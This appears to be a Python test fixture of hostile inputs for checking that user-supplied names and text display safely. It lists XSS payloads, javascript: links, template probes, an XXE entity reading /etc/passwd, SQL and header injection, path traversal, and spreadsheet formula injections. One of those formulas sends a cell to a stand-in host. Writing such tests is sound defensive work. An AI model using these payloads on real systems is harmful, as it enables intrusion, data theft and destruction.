"""Text that somebody could put into a name, a reason or an article to harm whoever reads it.

`pwn()` does nothing unless it runs: the browser tests define it, and everything else only has to
show it as text. Most strings are short, because a season's label holds no more than 20 characters.
"""

HOST = "canary.invalid"  # nobody may ever be sent there

MARKUP = {
    "script": "<script>pwn()</script>",
    "open script": "<script>pwn()//",
    "script in odd case": "<ScRiPt/x>pwn()</sCrIpT>",
    "nested script": "<scr<script>ipt>pwn()</script>",
    "script of another host": f"<script src=//{HOST}/x></script>",
    "image": "<img src onerror=pwn()>",
    "drawing": "<svg/onload=pwn()>",
    "video": "<video onerror=pwn() src=x>",
    "details": "<details open ontoggle=pwn()>",
    "frame": "<iframe srcdoc='<script>parent.pwn()</script>'>",
    "form": f"<form action=//{HOST}><button>",
    "base": f"<base href=//{HOST}/>",
    "redirect": f"<meta http-equiv=refresh content='0;url=//{HOST}'>",
    "style": "<style>*{color:red}</style>",
    "style attribute": "<b style=position:fixed>",
    "mathematics": "<math><mtext><mglyph><style><img src onerror=pwn()>",
    "double quote": '" onfocus=pwn() x="',
    "single quote": "' onfocus=pwn() x='",
    "end of attribute": '"><svg/onload=pwn()>',
    "end of title": "</title><svg/onload=pwn()>",
    "end of textarea": "</textarea><svg/onload=pwn()>",
    "end of select": "</option></select><svg/onload=pwn()>",
    "end of table": "</td></table><svg/onload=pwn()>",
    "end of script": "</script><svg/onload=pwn()>",
    "end of comment": "--><svg/onload=pwn()>",
    "end of character data": "]]><svg/onload=pwn()>",
    "entity": "&lt;svg/onload=pwn()&gt;",
    "numeric entity": "&#60;svg/onload=pwn()&#62;",
    "document type": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "percent": "%3Csvg/onload=pwn()%3E",
}

LINKS = {
    "javascript": "javascript:pwn()",
    "javascript with a tab": "java\tscript:pwn()",
    "javascript after a control character": "\x01javascript:pwn()",
    "data": "data:text/html,<script>pwn()</script>",
    "vbscript": "vbscript:pwn()",
}

MARKDOWN = {
    "html in a paragraph": "Hello <b onclick=pwn()>you</b>",
    "javascript link": "[x](javascript:pwn())",
    "entity in a link": "[x](java&#115;cript:pwn())",
    "newline in a link": "[x](java\nscript:pwn())",
    "data link": "[x](data:text/html;base64,PHN2Zy9vbmxvYWQ9cHduKCk+)",
    "image of another host": f"![x](http://{HOST}/x.png)",
    "image that breaks out": '![x" onerror="pwn()](x)',
    "javascript autolink": "<javascript:pwn()>",
    "autolink": f"<http://{HOST}/>",
    "reference": "[x]\n\n[x]: javascript:pwn()",
    "title that breaks out": "[x](http://x '\" onclick=\"pwn()')",
    "all its marks": "# *a* | `b` _c_ ~d~ [e] \\ > 1. -",
    "code that ends": "`</code><svg/onload=pwn()>`",
}

TEMPLATES = {
    "Django": "{{ request.META }}{% debug %}",
    "Python format": "{0.__class__} {match} %(x)s %s",
    "JavaScript": "${pwn()} `",
}

CHARACTERS = {
    "right to left override": "Ash\u202edrof\u2066\u202c",
    "zero width": "Ash\u200bf\u200do\u2060rd\ufeff",
    "control characters": "Ash\x01\x08\x0b\x0c\x0e\x1b[31m\x7f\x9fford",
    "noncharacters": "Ash\ufffe\uffff\ufdd0ford",
    "newlines": "Ash\r\nfo\nr\u2028d\u2029\x85",
    "header": "Ash\r\nSet-Cookie: pwn=1",
    "one very long word": "Llanfairpwllgwyngyll" * 60,
    "stacked accents": "A" + "\u0301" * 60,
    "astral": "\U0001f3f4\u200d\u2620\ufe0f\U000e0041",
    "spaces": "\u2003 \u3000Ash",
    "scores": "9-9 12-11",
    "SQL": "'; DROP TABLE x; --",
    "path": "../../../../etc/passwd",
}

FORMULAS = {
    "formula": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "link": f'=HYPERLINK("http://{HOST}","x")',
    "program": "=cmd|' /C calc'!A0",
    "program behind a number": "-2+3+cmd|' /C calc'!A0",
    "web service": f'=WEBSERVICE("http://{HOST}/"&A1)',
    "import": f'=IMPORTXML(CONCAT("http://{HOST}/",A1),"//a")',
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "newline first": "\n=1+1",
    "space first": " =1+1",
    "no-break space first": "\u00a0=1+1",
    "zero width first": "\u200b\ufeff=1+1",
    "control character first": "\x1f=1+1",
    "quote first": '"=1+1',
    "single quote first": "'=1+1",
    "quotes and spaces first": " \" ' =1+1",
    "full width": "\uff1d1+1",
    "full-width plus": "\uff0b1+1",
    "full-width minus": "\uff0d1+1",
    "full-width at": "\uff20SUM(1)",
    "small forms": "\ufe661+1",
    "another minus": "\u22121+1",
    "cell of its own behind a semicolon": "x;=1+1",
    "cell of its own behind quotes": 'x";"=1+1',
    "cell of its own behind a tab": "x\t=1+1",
    "row of its own": "x\r\n=1+1",
}

FOR_READERS = [text for group in (MARKUP, LINKS, MARKDOWN, TEMPLATES, CHARACTERS) for text in group.values()]
FOR_SPREADSHEETS = list(FORMULAS.values())
